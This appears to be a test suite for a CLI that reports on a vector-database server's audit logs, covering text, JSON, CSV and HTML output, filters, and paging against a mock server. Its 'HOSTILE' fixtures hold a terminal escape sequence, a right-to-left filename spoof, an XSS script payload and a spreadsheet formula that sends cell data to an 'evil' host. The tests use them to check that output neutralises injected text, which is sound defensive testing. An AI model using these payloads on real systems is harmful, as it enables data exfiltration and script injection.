import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { expect, onTestFinished, test } from 'vitest'
import { line } from '../audit/lines.ts'
import { put, temporaryDirectory } from '../support/directory.ts'
import { type Outcome, run } from '../support/io.ts'

const audit = (cwd: string, argv: string[], world: object = {}) =>
  run(['audit', 'report', ...argv], { cwd, ...world })
const json = async (cwd: string, argv: string[]) => JSON.parse((await audit(cwd, [...argv, '--json'])).stdout)

/** A day of three callers, a stranger and another node. */
const LOG = [
  line({
    timestamp: '2026-11-23T08:00:00.5Z',
    method: 'create_collection',
    api: '/collections/docs',
    auth_type: 'ApiKey',
    remote: '10.0.0.9',
  }),
  line({
    timestamp: '2026-11-23T08:30:00Z',
    method: 'upsert_points',
    api: '/collections/docs/points',
    subject: 'indexer',
    remote: '10.0.0.7',
    collection: 'docs',
  }),
  line({
    timestamp: '2026-11-23T09:00:00Z',
    method: 'upsert_points',
    api: '/collections/docs/points',
    subject: 'indexer',
    remote: '10.0.0.7',
    collection: 'docs',
  }),
  line({
    timestamp: '2026-11-23T09:00:01Z',
    method: 'upsert_points',
    api: '/qdrant.PointsInternal/Upsert',
    auth_type: 'ApiKey',
    remote: '10.0.1.2',
    collection: 'docs',
  }),
  line({ timestamp: '2026-11-23T09:00:01Z', method: 'upsert_points', auth_type: 'None', collection: 'docs' }),
  line({
    timestamp: '2026-11-23T09:10:00Z',
    method: 'delete_collection',
    api: '/collections/docs',
    subject: 'indexer',
    remote: '10.0.0.7',
    result: 'denied',
    error: 'Forbidden: Global access is required',
  }),
  line({
    timestamp: '2026-11-23T11:00:00Z',
    method: 'query_batch',
    api: '/collections/docs/points/query',
    subject: 'search',
    remote: '10.0.0.8',
    collection: 'docs',
  }),
  line({
    timestamp: '2026-11-23T11:30:00Z',
    api: '/collections',
    auth_type: 'None',
    remote: '203.0.113.7',
    result: 'denied',
    error: 'Unauthorized: Invalid API key or JWT',
  }),
]

const logs = () => temporaryDirectory({ 'logs/audit.2026-11-23.log': LOG.join('') })

test('as text', async () => {
  const cwd = logs()
  const { stdout, stderr, code } = await audit(cwd, ['logs', '--top', '2'])
  expect(stdout).toBe(`8 events, 2 denied (25.0 %)
2026-11-23T08:00:00.500Z to 2026-11-23T11:30:00Z
1 log(s) of 1 node(s), 2 events are calls between nodes: the work of clients a
second time

events  ▄█ ▄
denied   █ █
        2026-11-23T08:00Z, 1 h each

SUBJECT       EVENTS  DENIED  LAST SEEN
(no subject)       4       1  2026-11-23T11:30:00Z  ████████████████████████
indexer            3       1  2026-11-23T09:10:00Z  ██████████████████
… and 1 more (--top)

CREDENTIAL                      EVENTS  DENIED  LAST SEEN
token (Jwt)                          4       1  2026-11-23T11:00:00Z  ██████████
one of the three keys (ApiKey)       2       -  2026-11-23T09:00:01Z  █████
… and 1 more (--top)

OPERATION          EVENTS  DENIED  LAST SEEN
upsert_points           4       -  2026-11-23T09:00:01Z  ███████████████████████
create_collection       1       -  2026-11-23T08:00:00Z  █████▊
… and 3 more (--top)

COLLECTION       EVENTS  DENIED  LAST SEEN
docs                  5       -  2026-11-23T11:00:00Z  ████████████████████████
(no collection)       3       2  2026-11-23T11:30:00Z  ██████████████▍

ADDRESS       EVENTS  DENIED  LAST SEEN
10.0.0.7           3       1  2026-11-23T09:10:00Z  ████████████████████████
(no address)       1       -  2026-11-23T09:00:01Z  ████████
… and 4 more (--top)

DENIED BECAUSE
     1  Forbidden: Global access is required
        most: delete_collection by indexer
     1  Unauthorized: Invalid API key or JWT
        most: /collections by 203.0.113.7

BY KEY, NOT BY TOKEN  EVENTS  LAST SEEN
10.0.0.9                   1  2026-11-23T08:00:00Z
10.0.1.2                   1  2026-11-23T09:00:01Z
`)
  expect([stderr, code]).toEqual(['', 0])
})

test('without a wider terminal every line fits 80 columns, whatever is in the log', async () => {
  const cwd = temporaryDirectory()
  const long = (text: string) => text.repeat(40).slice(0, 120)
  const event = (second: number, more: object) =>
    line({
      timestamp: `2026-11-23T10:00:${String(second).padStart(2, '0')}Z`,
      method: long('operation_'),
      subject: long('subject-'),
      remote: '2001:0db8:85a3:0000:0000:8a2e:0370:7334',
      collection: long('docs-'),
      ...more,
    })
  const denied = { result: 'denied', error: `Forbidden: ${long('access is refused ')}` }
  const rows = Array.from({ length: 60 }, (_, second) => event(second, denied))
  put(join(cwd, 'audit.log'), [...rows, event(0, { auth_type: 'ApiKey' }).repeat(1000)].join(''))
  await run(
    ['jwt', 'mint', '--key-env', 'KEY', '--access', 'read', '--name', long('n'), '--subject', long('s')],
    {
      cwd,
      env: { KEY: 'Qx7vT0e9bK3mWZ1sYp5dRfLh8uNcJ2aGoVi6EtB4kXw' },
    },
  )
  const { stdout } = await audit(cwd, ['audit.log'])
  const headings = [
    'SUBJECT',
    'ADDRESS',
    'DENIED BECAUSE',
    'BURSTS OF DENIALS',
    'BY KEY',
    'TOKENS NEVER USED',
  ]
  for (const heading of headings) expect(stdout).toContain(`\n${heading}`)
  expect(stdout.split('\n').filter((text) => [...text].length > 80)).toEqual([])
})

test('as JSON: totals, and groups that add up to them', async () => {
  const report = await json(logs(), ['logs'])
  const counts = (name: string) =>
    Object.fromEntries(
      report.groups[name].map((group: { name: string | null; events: number; denied: number }) => [
        String(group.name),
        [group.events, group.denied],
      ]),
    )
  expect(report).toMatchObject({
    schemaVersion: 1,
    command: 'audit report',
    ok: true,
    events: 8,
    denied: 2,
    nodeToNode: 2,
    firstSeen: '2026-11-23T08:00:00.500Z',
    lastSeen: '2026-11-23T11:30:00Z',
  })
  // Names and fields that scripts read.
  expect(Object.keys(report.groups)).toEqual(
    expect.arrayContaining(['subject', 'authType', 'operation', 'collection', 'result']),
  )
  expect(report.groups.subject).toContainEqual({
    name: 'indexer',
    events: 3,
    denied: 1,
    firstSeen: '2026-11-23T08:30:00Z',
    lastSeen: '2026-11-23T09:10:00Z',
  })
  expect(counts('subject')).toEqual({ null: [4, 1], indexer: [3, 1], search: [1, 0] })
  expect(counts('authType')).toEqual({ Jwt: [4, 1], ApiKey: [2, 0], None: [2, 1] })
  expect(counts('result')).toEqual({ ok: [6, 0], denied: [2, 2] })
  expect(counts('collection')).toEqual({ docs: [5, 0], null: [3, 2] })
  expect(counts('operation')).toEqual({
    upsert_points: [4, 0],
    create_collection: [1, 0],
    delete_collection: [1, 1],
    query_batch: [1, 0],
    '/collections': [1, 1],
  })
  expect(report.hours).toEqual([
    { hour: '2026-11-23T08:00:00Z', events: 2, denied: 0 },
    { hour: '2026-11-23T09:00:00Z', events: 4, denied: 1 },
    { hour: '2026-11-23T11:00:00Z', events: 2, denied: 1 },
  ])
  expect(report.activities[0]).toEqual({
    subject: 'indexer',
    authType: 'Jwt',
    address: '10.0.0.7',
    operation: 'upsert_points',
    collection: 'docs',
    result: 'ok',
    error: null,
    nodeToNode: false,
    events: 2,
    firstSeen: '2026-11-23T08:30:00Z',
    lastSeen: '2026-11-23T09:00:00Z',
  })
  expect(report.callers[0]).toEqual({
    subject: 'indexer',
    authType: 'Jwt',
    address: '10.0.0.7',
    events: 3,
    denied: 1,
    firstSeen: '2026-11-23T08:30:00Z',
    lastSeen: '2026-11-23T09:10:00Z',
  })
})

test('filters', async () => {
  const cwd = logs()
  const events = async (...argv: string[]) => (await json(cwd, ['logs', ...argv])).events
  expect(await events('--denied')).toBe(2)
  expect(await events('--subject', 'indexer')).toBe(3)
  expect(await events('--subject', 'indexer', '--subject', 'search')).toBe(4)
  expect(await events('--subject', 'nobody')).toBe(0)
  expect(await events('--collection', 'docs', '--clients-only')).toBe(3)
  expect(await events('--operation', '/collections')).toBe(1)
  expect(await events('--address', '10.0.0.7', '--denied')).toBe(1)
  expect(await events('--auth-type', 'ApiKey')).toBe(2)
  expect(await events('--since', '2026-11-23T09:00:01Z', '--until', '2026-11-23T11:30:00Z')).toBe(4)
  // The clock of the test says noon.
  expect(await events('--since', '1h')).toBe(2)
  expect(await events('--until', '2026-11-23')).toBe(0)
  expect(await events('--since', '999999999y')).toBe(8)
  expect((await audit(cwd, ['logs', '--until', '2026-11-23'])).stdout).toBe('There are no such events.\n')
})

test('files, packed files, several nodes, stdin', async () => {
  const cwd = temporaryDirectory({
    'n1/audit.2026-11-22.log': LOG[0] ?? '',
    'n1/other.log': 'not a log of the server\n',
  })
  mkdirSync(join(cwd, 'n2'))
  const packed = Buffer.concat([gzipSync(LOG.slice(1, 4).join('')), gzipSync(LOG[4] ?? '')])
  writeFileSync(join(cwd, 'n2/audit.2026-11-22.log.gz'), packed)
  writeFileSync(join(cwd, 'single'), LOG[5] ?? '')
  const { stdout } = await audit(cwd, ['.', 'single', '-', '--json'], { stdin: LOG[6] })
  const report = JSON.parse(stdout)
  expect(report.events).toBe(7)
  expect(
    report.sources.map(({ name, node, events }: Record<string, unknown>) => [name, node, events]),
  ).toEqual([
    ['n1/audit.2026-11-22.log', 'n1', 1],
    ['n2/audit.2026-11-22.log.gz', 'n2', 4],
    ['single', 'single', 1],
    ['-', 'stdin', 1],
  ])
  // The same file by another path is read once.
  expect((await json(cwd, ['n1', './n1/audit.2026-11-22.log', '.'])).events).toBe(5)
  // Packed data that ends in the middle: what came before counts.
  writeFileSync(join(cwd, 'cut.gz'), gzipSync(LOG.join('').repeat(3000)).subarray(0, 2000))
  const cut = await audit(cwd, ['cut.gz', '--json'])
  expect(JSON.parse(cut.stdout).events).toBeGreaterThan(100)
  expect(cut.stderr).toMatch(
    /^warning: (\d+ line\(s\) of cut\.gz are no audit events|cut\.gz ends in the middle)/,
  )
})

test('places that cannot be read', async () => {
  const cwd = temporaryDirectory({ 'empty/readme': '' })
  expect(await audit(cwd, ['gone'])).toMatchObject({
    code: 3,
    stderr:
      'error: cannot read gone: no such file or directory\nhint: name the log: audit.dir of the server, a file, or the URL of a running server\n',
  })
  expect(await audit(cwd, ['empty'])).toMatchObject({
    code: 3,
    stderr:
      "error: empty holds no audit*.log\nhint: it is the server's audit.dir, or a directory with one of these for each node\n",
  })
  expect((await audit(cwd, [])).stderr).toMatch(/^error: cannot read storage\/audit: no such file/)
  expect(await audit(cwd, ['empty', '--since', 'soon'])).toMatchObject({
    code: 2,
    stderr:
      'error: --since "soon" is neither a time nor a duration\nhint: write 2026-11-23, 2026-11-23T12:00:00Z, 7d or 12h\n',
  })
  for (const [since, until] of [
    ['2026-11-23', '2026-11-22'],
    ['1h', '2h'],
    ['2026-11-23', '2026-11-23'],
  ] as const)
    expect(await audit(cwd, ['empty', '--since', since, '--until', until])).toEqual({
      code: 2,
      stdout: '',
      stderr: 'error: --since is not before --until, so no event lies between them\n',
    })
  expect(await audit(cwd, ['empty', '--key-env', 'KEY'])).toMatchObject({ code: 2 })
})

test('lines that are no events are told with their places, and the rest is counted', async () => {
  const cwd = temporaryDirectory({ 'a.log': `${LOG[0]}oops\n${LOG[1]}{"timestamp":"2026-` })
  const { stdout, stderr, code } = await audit(cwd, ['a.log', '--json'])
  expect([JSON.parse(stdout).events, JSON.parse(stdout).skipped.lines, code]).toEqual([2, 2, 0])
  const [first, second] = [LOG[0]?.length ?? 0, LOG[1]?.length ?? 0]
  expect(stderr).toBe(
    `warning: 2 line(s) of a.log are no audit events and were skipped\na.log:2 (byte ${first}): not JSON\na.log:4 (byte ${first + 5 + second}): cut off\n`,
  )
})

const HOSTILE = {
  escape: '\u001b[2J\u001b]0;pwned\u0007',
  direction: 'abc\u202egnp.exe',
  formula: `=HYPERLINK("http://evil/?"&A1,"x")`,
  markup: `"><script>alert(1)</script><img src=x onerror=alert(1)>`,
}

const hostileLog = () =>
  temporaryDirectory({
    'logs/audit.log': Object.values(HOSTILE)
      .map((text) =>
        line({
          method: text,
          api: text,
          subject: text,
          remote: text,
          collection: text,
          tracing_id: text,
          result: 'denied',
          error: text,
        }),
      )
      .join(''),
  })

test('texts of a log act neither on a terminal nor in a spreadsheet', async () => {
  const cwd = hostileLog()
  const acting = /[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e]/
  for (const argv of [['logs'], ['logs', '--csv'], ['logs', '--json']]) {
    const { stdout, stderr } = await audit(cwd, argv)
    expect(stdout.replace(/[\u202e]/g, argv.includes('--json') ? '' : '$&')).not.toMatch(acting)
    expect(stderr).not.toMatch(acting)
  }
  const { stdout } = await audit(cwd, ['logs', '--csv'])
  expect(stdout.split('\r\n')[0]).toBe(
    'subject,auth_type,address,operation,collection,result,error,node_to_node,events,first_seen,last_seen',
  )
  const formula = `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`
  const time = '2026-11-23T12:00:00.123Z'
  expect(stdout.split('\r\n')).toContain(
    [formula, 'Jwt', formula, formula, formula, 'denied', formula, 'false', '1', time, time].join(','),
  )
  for (const field of stdout.split(/\r\n|,/)) expect(field).not.toMatch(/^"?[=+@-]/)
})

test.each(['=1+1', '+1', '-1', '@SUM(A1)', ' =1+1', '|x', '%0A=1'])(
  'formula %j is text in CSV',
  async (text) => {
    const cwd = temporaryDirectory({ 'a.log': line({ method: 'scroll', subject: text, remote: '::1' }) })
    const { stdout } = await audit(cwd, ['a.log', '--csv'])
    expect(stdout.split('\r\n')[1]).toMatch(/^"?'/)
  },
)

test('tokens of the registry that nobody used', async () => {
  const cwd = logs()
  const env = { KEY: 'tJ4mXq8ZsW2pLr7VbN5kYd9FhC3gTe6QaU1oRi0EwSx' }
  const mint = (...argv: string[]) =>
    run(['jwt', 'mint', '--key-env', 'KEY', '--access', 'read', ...argv], { cwd, env })
  await mint('--subject', 'indexer', '--name', 'one')
  await mint('--subject', 'forgotten', '--name', 'two')
  await mint('--name', 'three')
  const report = await json(cwd, ['logs'])
  expect(report.unusedTokens).toEqual([
    {
      name: 'two',
      subject: 'forgotten',
      mintedAt: '2026-11-23T12:00:00.000Z',
      expiresAt: '2026-12-23T12:00:00Z',
    },
  ])
  expect(report.tokensWithoutSubject).toEqual(['three'])
  expect((await audit(cwd, ['logs'])).stdout).toMatch(
    /TOKENS NEVER USED {2}SUBJECT {4}MINTED {6}EXPIRES\ntwo {16}forgotten {2}2026-11-23 {2}2026-12-23\n$/,
  )
  // A part of the log proves nothing.
  expect((await json(cwd, ['logs', '--denied'])).unusedTokens).toBeNull()
})

test('bursts of denials', async () => {
  const refused = (second: number, minute: number, remote: string) =>
    line({
      timestamp: `2026-11-23T10:${String(minute).padStart(2, '0')}:${String(second).padStart(2, '0')}Z`,
      api: '/collections',
      auth_type: 'None',
      remote,
      result: 'denied',
      error: 'Unauthorized: Invalid API key or JWT',
    })
  const many = [0, 1, 2, 30].flatMap((minute) =>
    Array.from({ length: 25 }, (_, at) => refused(at * 2, minute, '203.0.113.7')),
  )
  const few = Array.from({ length: 19 }, (_, at) => refused(at, 5, '203.0.113.8'))
  const cwd = temporaryDirectory({ 'a.log': [...many, ...few].join('') })
  expect((await json(cwd, ['a.log'])).bursts).toEqual([
    {
      subject: null,
      address: '203.0.113.7',
      denied: 75,
      from: '2026-11-23T10:00:00Z',
      to: '2026-11-23T10:02:00Z',
    },
    {
      subject: null,
      address: '203.0.113.7',
      denied: 25,
      from: '2026-11-23T10:30:00Z',
      to: '2026-11-23T10:30:00Z',
    },
  ])
})

/** A server with so many events that answers as the real one does: newest first, the end exclusive, a limit. */
async function auditServer(
  events: readonly { timestamp: string }[],
  answer?: { status: number; body: string },
) {
  const asked: Record<string, unknown>[] = []
  const server = createServer((request, response) => {
    let text = ''
    request.on('data', (chunk) => (text += chunk))
    request.on('end', () => {
      const body = JSON.parse(text)
      asked.push({ ...body, key: request.headers['api-key'], target: `${request.method} ${request.url}` })
      if (answer !== undefined) {
        response.writeHead(answer.status).end(answer.body)
        return
      }
      const entries = events
        .filter(
          ({ timestamp }) => body.time_to === undefined || Date.parse(timestamp) < Date.parse(body.time_to),
        )
        .filter(
          ({ timestamp }) =>
            body.time_from === undefined || Date.parse(timestamp) >= Date.parse(body.time_from),
        )
        .reverse()
        .slice(0, body.limit)
      response.end(JSON.stringify({ result: { entries }, status: 'ok', time: 0 }))
    })
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  onTestFinished(() => {
    server.close()
  })
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked }
}

const KEY = { env: { KEY: 'k-0123456789abcdefghijklmnopqrstuv' } }

test('a running server is asked page by page, and nothing is counted twice or lost', async () => {
  const events = Array.from({ length: 12_345 }, (_, index) => ({
    timestamp: new Date(Date.UTC(2026, 10, 22) + index * 37).toISOString(),
    method: 'scroll',
    auth_type: 'Jwt',
    subject: `s${index % 3}`,
    remote: '10.0.0.1',
    collection: 'docs',
    result: 'ok',
  }))
  const { url, asked } = await auditServer(events)
  const { stdout, stderr } = await audit(temporaryDirectory(), [url, '--key-env', 'KEY', '--json'], KEY)
  expect([JSON.parse(stdout).events, stderr]).toEqual([12_345, ''])
  expect(asked.length).toBe(3)
  expect(asked[0]).toEqual({ limit: 5000, filters: {}, key: KEY.env.KEY, target: 'POST /audit/logs' })
})

test('a log of many events a second is read in few pages too', async () => {
  const events = Array.from({ length: 20_000 }, (_, index) => ({
    timestamp: new Date(Date.UTC(2026, 10, 22) + Math.floor(index / 20)).toISOString(),
    method: 'scroll',
    auth_type: 'Jwt',
    subject: `s${index}`,
    remote: '10.0.0.1',
    result: 'ok',
  }))
  const { url, asked } = await auditServer(events)
  const { stdout } = await audit(temporaryDirectory(), [url, '--key-env', 'KEY', '--json'], KEY)
  expect(JSON.parse(stdout).events).toBe(20_000)
  expect(asked.length).toBeLessThan(20)
})

test('what a server can filter itself is not sent over the network', async () => {
  const { url, asked } = await auditServer([])
  const argv = [
    url,
    '--key-env',
    'KEY',
    '--since',
    '1d',
    '--subject',
    'a',
    '--denied',
    '--collection',
    'x',
    '--collection',
    'y',
  ]
  await audit(temporaryDirectory(), argv, KEY)
  expect(asked[0]).toMatchObject({
    time_from: '2026-11-22T12:00:00.000Z',
    filters: { subject: 'a', result: 'denied' },
  })
})

test.each([
  [
    401,
    'Must provide an API key',
    5,
    ' 401 Must provide an API key\nhint: give the api_key of the server: --key-file\n',
  ],
  [
    400,
    '{"status":{"error":"Bad request: Audit logging is not configured"}}',
    5,
    ' 400 Bad request: Audit logging is not configured\nhint: set audit.enabled: true, and restart; or read the files of audit.dir\n',
  ],
  [418, '\u001b[31m', 5, ' 418 \\u001b[31m\n'],
])('a server that answers %i', async (status, body, code, words) => {
  const { url } = await auditServer([], { status, body })
  expect(await audit(temporaryDirectory(), [url, '--key-env', 'KEY'], KEY)).toMatchObject({
    code,
    stderr: `error: ${url} did not hand out its audit log:${words}`,
  })
})

test('a server that answers with something else, and one that is not there', async () => {
  const { url } = await auditServer([], { status: 200, body: '<html>' })
  expect(await audit(temporaryDirectory(), [url, '--key-env', 'KEY'], KEY)).toMatchObject({
    code: 3,
    stderr: `error: ${url} answered with no list of audit entries\n`,
  })
  expect(await audit(temporaryDirectory(), ['http://127.0.0.1:1', '--key-env', 'KEY'], KEY)).toMatchObject({
    code: 4,
  })
})

// The first was asked for ever, and its events counted again and again; the second was an internal error.
test.each([
  ['that looks at no time', { timestamp: '2026-11-23T12:00:00Z', auth_type: 'Jwt', result: 'ok' }],
  ['whose events have no time', {}],
])('a server %s is not asked for ever', async (_, entry) => {
  const entries = Array.from({ length: 5000 }, () => entry)
  const { url, asked } = await auditServer([], { status: 200, body: JSON.stringify({ result: { entries } }) })
  expect(await audit(temporaryDirectory(), [url, '--key-env', 'KEY'], KEY)).toMatchObject({
    code: 3,
    stderr: `error: ${url} answered with no list of audit entries\n`,
  })
  expect(asked.length).toBeLessThan(15)
})

test('a page is written for its owner alone, over an older page, and over nothing else', async () => {
  const cwd = logs()
  expect(await audit(cwd, ['logs', '--html', 'r.html'])).toMatchObject({ code: 0 })
  expect(statSync(join(cwd, 'r.html')).mode & 0o777).toBe(0o600)
  const before = readFileSync(join(cwd, 'r.html'), 'utf8')
  expect(await audit(cwd, ['logs', '--html', 'r.html'])).toMatchObject({ code: 0 })
  expect(readFileSync(join(cwd, 'r.html'), 'utf8')).toBe(before)
  writeFileSync(join(cwd, 'mine.html'), '<!doctype html>mine')
  expect(await audit(cwd, ['logs', '--html', 'mine.html'])).toMatchObject({ code: 6 })
  expect(readFileSync(join(cwd, 'mine.html'), 'utf8')).toBe('<!doctype html>mine')
})

test('bars fit into the terminal, and are left out where they would say nothing', async () => {
  const cwd = logs()
  const rowIn = async (columns: number) => {
    const { stdout } = await run(['audit', 'report', 'logs'], { cwd, columns })
    return /^token \(Jwt\).*$/m.exec(stdout)?.[0]
  }
  const row = 'token (Jwt)                          4       1  2026-11-23T11:00:00Z'
  expect(await rowIn(200)).toBe(`${row}  ${'█'.repeat(24)}`)
  expect(await rowIn(74)).toBe(`${row}  ████`)
  expect(await rowIn(73)).toBe(row)
})

test('a page has a name and a place', async () => {
  const cwd = logs()
  expect(await audit(cwd, ['logs', '--html', '-'])).toEqual({
    code: 2,
    stdout: '',
    stderr: 'error: --html writes a file, and - is none\nhint: write --html audit.html\n',
  })
  expect(await audit(cwd, ['logs', '--html', 'no/audit.html'])).toEqual({
    code: 3,
    stdout: '',
    stderr: `error: there is no directory ${cwd}/no\nhint: make it first, or name another file\n`,
  })
})

// What it holds may be what was asked for: "There are no such events." with exit 0 passed for good news.
test('a file that is no log beside one that is', async () => {
  const cwd = temporaryDirectory({ 'a.log': LOG.join(''), junk: 'a\nb\n', 'torn.log': '{"timestamp":"20' })
  const stderr =
    'warning: 2 line(s) of junk are no audit events and were skipped\njunk:1 (byte 0): not JSON\njunk:2 (byte 2): not JSON\nwarning: junk is no audit log\nhint: the server writes it as audit*.log into its audit.dir; what it prints itself is another log\n'
  expect(await audit(cwd, ['a.log', 'junk', '--subject', 'nobody'])).toEqual({
    code: 3,
    stdout: 'There are no such events.\n',
    stderr,
  })
  const { code, stdout } = await audit(cwd, ['a.log', 'junk', '--json'])
  expect([code, JSON.parse(stdout).events]).toEqual([3, LOG.length])
  const suggested = await run(['audit', 'suggest', 'a.log', 'junk', '--subject', 'indexer'], { cwd })
  expect([suggested.code, suggested.stdout]).toEqual([3, expect.stringContaining('It needs')])
  // The server had begun its first line.
  expect((await audit(cwd, ['a.log', 'torn.log'])).code).toBe(0)
})

// Both passed for "There are no such events." once, with exit 0.
test.each<[string, string, Outcome]>([
  [
    'binary',
    '\u0000\u0001\u0002\n\u007fELF\n',
    {
      code: 3,
      stdout: '0 events: none of the 2 lines is an audit event, and all were skipped.\n',
      stderr:
        'warning: 2 line(s) of log are no audit events and were skipped\nlog:1 (byte 0): not JSON\nlog:2 (byte 4): not JSON\nwarning: this is no audit log\nhint: the server writes it as audit*.log into its audit.dir; what it prints itself is another log\n',
    },
  ],
  [
    'cut off',
    '{"timestamp":"2026-11',
    {
      code: 3,
      stdout: '0 events: the only line is no audit event and was skipped.\n',
      stderr:
        'warning: 1 line(s) of log are no audit events and were skipped\nlog:1 (byte 0): cut off\nwarning: this is no audit log\nhint: the server writes it as audit*.log into its audit.dir; what it prints itself is another log\n',
    },
  ],
  ['empty', '', { code: 1, stdout: '0 events: the log is empty.\n', stderr: '' }],
])('a %s log without one event is no success', async (_, log, outcome) => {
  const cwd = temporaryDirectory({ log })
  expect(await audit(cwd, ['log'])).toEqual(outcome)
  expect((await audit(cwd, ['log', '--json'])).code).toBe(outcome.code)
  expect((await audit(cwd, ['log', '--csv'])).code).toBe(outcome.code)
})

test('a filter that nothing passes is a good answer, and so is a log with some broken lines', async () => {
  const cwd = temporaryDirectory({ log: `${LOG[0]}nonsense\n`, empty: '' })
  expect(await audit(cwd, ['log', '--subject', 'nobody'])).toMatchObject({
    code: 0,
    stdout: 'There are no such events.\n',
  })
  expect(await audit(cwd, ['empty', '--denied'])).toMatchObject({
    code: 0,
    stdout: 'There are no such events.\n',
  })
  expect((await audit(cwd, ['log', 'empty'])).code).toBe(0)
})
